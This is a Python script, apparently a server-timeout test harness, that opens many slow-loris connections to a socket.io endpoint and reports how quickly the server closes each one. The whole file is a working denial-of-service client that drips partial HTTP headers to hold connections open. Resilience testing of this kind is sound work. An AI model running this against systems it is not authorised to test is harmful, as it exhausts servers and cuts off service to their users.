#!/usr/bin/env python3
"""Slow-loris clients: N connections that each send a request line and then one header line
every INTERVAL seconds, never finishing the header. Records when the server closes each one
(seconds after its first byte). Prints one JSON object when every connection is closed or
MAX seconds have passed.

    slowloris.py HOST PORT N [INTERVAL=2] [MAX=60] [RATE=2000]
"""
import asyncio
import json
import sys
import time


async def one(host, port, interval, closed, opened, deadline):
    try:
        reader, writer = await asyncio.open_connection(host, port)
    except OSError:
        return "connect_failed"
    opened.append(1)
    first = time.monotonic()
    try:
        writer.write(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: x\r\n")
        await writer.drain()
        i = 0
        while time.monotonic() < deadline:
            try:
                data = await asyncio.wait_for(reader.read(1024), timeout=interval)
                # EOF (or an answer, which a slow client never gets before its header ends).
                closed.append(time.monotonic() - first)
                return "closed" if not data else "answered"
            except asyncio.TimeoutError:
                pass
            i += 1
            writer.write(b"X-Slow-%d: %s\r\n" % (i, b"a" * 20))
            await writer.drain()
    except (ConnectionError, OSError):
        closed.append(time.monotonic() - first)
        return "closed"
    finally:
        writer.close()
    return "still_open"


async def main():
    host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    interval = float(sys.argv[4]) if len(sys.argv) > 4 else 2.0
    max_s = float(sys.argv[5]) if len(sys.argv) > 5 else 60.0
    rate = float(sys.argv[6]) if len(sys.argv) > 6 else 2000.0
    closed, opened = [], []
    start = time.monotonic()
    deadline = start + max_s
    tasks = []
    for i in range(n):
        tasks.append(asyncio.create_task(one(host, port, interval, closed, opened, deadline)))
        if (i + 1) % 100 == 0:
            await asyncio.sleep(100 / rate)
    print(json.dumps({"event": "all_started", "t": time.monotonic() - start}), flush=True)
    results = await asyncio.gather(*tasks)
    closed.sort()
    pct = lambda p: round(closed[min(len(closed) - 1, int(p * len(closed)))], 3) if closed else None
    print(json.dumps({
        "event": "done",
        "opened": len(opened),
        "closed_by_server": len(closed),
        "answered": results.count("answered"),
        "still_open": results.count("still_open"),
        "connect_failed": results.count("connect_failed"),
        "close_after_first_byte_s": {"min": pct(0), "p50": pct(0.5), "p99": pct(0.99), "max": pct(1.0)},
        "elapsed_s": round(time.monotonic() - start, 2),
    }), flush=True)


asyncio.run(main())
